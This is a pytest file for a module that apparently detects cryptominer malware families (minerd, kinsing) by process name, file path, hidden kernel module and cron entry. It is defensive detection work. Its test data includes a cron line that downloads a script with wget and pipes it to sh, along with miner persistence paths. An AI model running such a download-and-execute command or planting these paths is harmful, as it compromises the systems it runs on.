"""Families: what the seeds tell is there, lookups are exact, and the files are read strictly."""

from __future__ import annotations

import importlib
import time
from collections.abc import Callable, Iterator

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.knowledge import (
    Family,
    families,
    family_by_command,
    family_by_name,
    family_by_path,
    family_by_unit,
    guardian_name,
    known_paths,
)
from davy.knowledge.data import listed, read

module = importlib.import_module("davy.knowledge.families")
"""The module itself: the package exports a function of the same name."""

MODULES = ("raid", "iptable_mac", "snd_pcs", "usb_pcs", "ipv6_kac")


def family(identifier: str) -> Family:
    return next(each for each in families() if each.id == identifier)


@pytest.mark.parametrize("name", ["minerd", "tplink"])
def test_first_seed_knows_miners_in_tmp(name: str) -> None:
    for match in (family_by_name(name), family_by_path(f"/tmp/{name}")):
        assert match is not None
        assert (match.family, match.weak) == ("minerd-tplink", False)


@pytest.mark.parametrize("module", MODULES)
def test_first_seed_knows_hidden_modules_by_their_exact_name(module: str) -> None:
    path = f"/lib/udev/usb_control/{module}.ko"
    assert (path, "minerd-tplink") in known_paths()
    assert module in family("minerd-tplink").modules


@pytest.mark.parametrize(
    ("name", "path", "guards"), [("kdevtmpfsi", "/tmp/kdevtmpfsi", False), ("kinsing", "/var/tmp/kinsing", True)]
)
def test_second_seed_knows_miner_and_guardian(name: str, path: str, guards: bool) -> None:
    match = family_by_name(name)
    assert match is not None
    assert (match.family, match.guardian, match.weak, match.from_memory) == ("kinsing", guards, False, False)
    assert guardian_name(name) is guards
    assert (path, "kinsing") in known_paths()


def test_ordinary_words_are_weak() -> None:
    match = family_by_name("zzz")
    assert match is not None
    assert match.weak
    unit = family_by_unit("bot.service")
    assert unit is not None
    assert unit.weak


def test_what_nobody_looked_up_counts_less_and_says_so() -> None:
    named = family_by_name("kingsing")
    assert named is not None
    assert (named.weak, named.from_memory) == (True, True)
    placed = family_by_path("/usr/bin/bsd-port/getty")
    assert placed is not None
    assert (placed.weak, placed.from_memory) == (True, True)


def made(identifier: str, **values: tuple[str, ...]) -> Family:
    return msgspec.structs.replace(
        families()[0],
        **{"id": identifier, "names": (), "guardian_names": (), "paths": (), "preload": (), "weak": (), **values},
    )


@pytest.fixture
def known(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., None]]:
    """Puts families of a test's own in the place of the files'."""

    def put(*given: Family) -> None:
        monkeypatch.setattr(module, "families", lambda: given)
        for cached in (module._names, module._paths, module.family_by_name):
            cached.cache_clear()

    yield put
    monkeypatch.undo()
    for cached in (module._names, module._paths, module.family_by_name):
        cached.cache_clear()


def test_name_cut_by_the_kernel_is_recognised(known: Callable[..., None]) -> None:
    known(made("a", names=("ultralytics_runner",)))
    for name in ("ultralytics_runner", "ultralytics_run"):
        match = family_by_name(name)
        assert match is not None
        assert match.value == "ultralytics_runner"
    assert family_by_name("ultralytics_ru") is None


def test_shared_name_goes_to_the_family_that_is_surest(known: Callable[..., None]) -> None:
    known(made("a", names=("x", "y"), weak=("x",)), made("b", names=("x", "y")))
    matches = [family_by_name(name) for name in ("x", "y")]
    assert [match and (match.family, match.weak) for match in matches] == [("b", False), ("a", False)]


def test_pattern_below_a_home_means_any_user(known: Callable[..., None]) -> None:
    known(made("a", paths=("~/.configrc*/a/upd", "~/.x/", "/opt/**/y", "/opt/x/")))
    for path in ("/root/.configrc5/a/upd", "/home/ada/.configrc/a/upd", "/var/lib/pg/.x/z", "/opt/1/2/y", "/opt/x/z"):
        assert family_by_path(path), path
    for path in ("/tmp/.configrc5/a/upd", "/home/ada/.configrc/b/upd", "/opt/y/z", "/opt/x"):
        assert family_by_path(path) is None, path


@pytest.mark.parametrize("path", ["/lib/udev/usb_control/raid.ko", "/usr/lib/udev/usb_control/raid.ko"])
def test_merged_usr_is_one_place(path: str) -> None:
    match = family_by_path(path)
    assert match is not None
    assert match.value == "/lib/udev/usb_control/raid.ko"


def test_folder_means_all_below_it_and_not_its_neighbours() -> None:
    match = family_by_path("/lib/udev/usb_control/a/b")
    assert match is not None
    assert match.value == "/lib/udev/usb_control/"
    assert family_by_path("/lib/udev/usb_controller") is None


def test_known_paths_are_literal_and_absolute() -> None:
    for path, identifier in known_paths():
        assert path.startswith("/")
        assert not path.endswith("/")
        assert not set(path) & set("*?[")
        match = family_by_path(path)
        assert match is not None
        assert match.family == identifier
    assert len(known_paths()) == len(set(known_paths()))


def test_cron_line_of_a_family_is_recognised_in_its_line() -> None:
    match = family_by_command("* * * * * root wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1")
    assert match is not None
    assert match.family == "kinsing"


def test_unknown_key_in_a_family_is_an_error() -> None:
    good = msgspec.to_builtins(families()[0])
    assert msgspec.convert(good, Family) == families()[0]
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert({**good, "process_names": []}, Family)


@given(st.text(max_size=200))
def test_lookups_take_any_text(text: str) -> None:
    family_by_name(text)
    family_by_path(text)
    family_by_path("/" + text)
    family_by_unit(text)
    family_by_command(text)


def test_reading_the_families_takes_little_time() -> None:
    names = listed("families")
    best = min(timed(names) for _ in range(5))
    assert best < 0.005 * max(1, len(names) / 3)


def timed(names: tuple[str, ...]) -> float:
    start = time.process_time()
    for name in names:
        read(name, Family)
    return time.process_time() - start
